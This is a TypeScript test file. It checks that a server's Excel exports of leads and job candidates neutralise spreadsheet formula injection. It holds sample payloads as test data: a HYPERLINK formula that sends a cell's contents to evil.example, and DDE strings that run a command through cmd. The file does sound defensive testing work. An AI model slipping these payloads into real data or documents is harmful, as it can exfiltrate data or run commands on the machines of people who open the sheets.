import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetText } from '../../packages/server/src/http/spreadsheet-text';
import { createTestServer, multipartBody, type TestServer } from './helpers';

/** Every cell of the first sheet as text, and whether any cell holds a formula. */
async function readSheet(buffer: Buffer | Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as never);
  const rows: string[][] = [];
  let formulas = 0;
  workbook.worksheets[0].eachRow((row) => {
    const cells: string[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      cells.push(cell.value instanceof Date ? 'date' : String(cell.value ?? ''));
    });
    rows.push(cells);
  });
  return { rows, formulas };
}

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('spreadsheetText', () => {
  it('prefixes text a spreadsheet would run, including a leading tab or carriage return', () => {
    for (const text of [...HOSTILE, '\t1', '\rx', '=1', '@x']) expect(spreadsheetText(text)).toBe(`'${text}`);
    for (const text of ['Hello', '+212 600-000000', '-5', '50-100', '', ' =1', 'a=b'])
      expect(spreadsheetText(text)).toBe(text);
    expect(spreadsheetText(42)).toBe(42);
  });
});

describe('exports neutralise spreadsheet formulas in collected data', () => {
  let server: TestServer;
  let cookie: string;

  beforeAll(async () => {
    server = await createTestServer();
    cookie = await server.signIn('admin');
  });
  afterAll(async () => {
    await server?.close();
  });

  const download = (url: string, body: object) =>
    server.app.inject({ method: 'POST', url, headers: { cookie }, payload: body });

  it('writes cells starting with = + - @ tab or CR as text with a leading apostrophe; phone numbers stay', async () => {
    // The intake refuses control characters today, but rows stored earlier (or imported) may hold anything.
    for (const [index, text] of HOSTILE.entries()) {
      await server.db
        .insertInto('leads')
        .values({
          first_name: text,
          last_name: 'Doe',
          company_name: text,
          email: `lead${index}@example.com`,
          phone_number: '+212 600-000000',
          num_of_orders: '-5',
          countries_interested: 'Morocco',
        })
        .execute();
    }
    const exported = await download('/api/download/leads/Contact', { all: true });
    expect(exported.statusCode).toBe(200);
    const { rows, formulas } = await readSheet(exported.rawPayload);
    expect(formulas).toBe(0);
    const body = rows.slice(1);
    // (XML reads a carriage return back as a line feed.)
    expect(body.map((row) => row[0]).sort()).toEqual(HOSTILE.map((text) => `'${text.replace(/\r/g, '\n')}`).sort());
    for (const row of body) {
      expect(row[2]).toMatch(/^'/);
      expect(row[4]).toBe('+212 600-000000');
      expect(row[5]).toBe('-5');
    }
  });

  it('neutralises the candidates’ index.xlsx in the zip too', async () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
    const form = multipartBody(
      {
        job: '=HYPERLINK("https://evil.example")',
        fName: '@cmd',
        lName: 'Doe',
        email: 'cand@example.com',
        phone: '+1 555 0100',
      },
      { resume: { data: pdf, filename: 'cv.pdf' } },
    );
    expect(
      (
        await server.app.inject({
          method: 'POST',
          url: '/api/public/job-applications',
          headers: form.headers,
          payload: form.payload,
        })
      ).statusCode,
    ).toBe(201);
    const zip = await download('/api/getJobCandidateList', { all: true });
    const index = unzipSync(new Uint8Array(zip.rawPayload))['index.xlsx'];
    const { rows, formulas } = await readSheet(index);
    expect(formulas).toBe(0);
    expect(rows[1].slice(0, 5)).toEqual([
      '\'=HYPERLINK("https://evil.example")',
      "'@cmd",
      'Doe',
      'cand@example.com',
      '+1 555 0100',
    ]);
  });
});
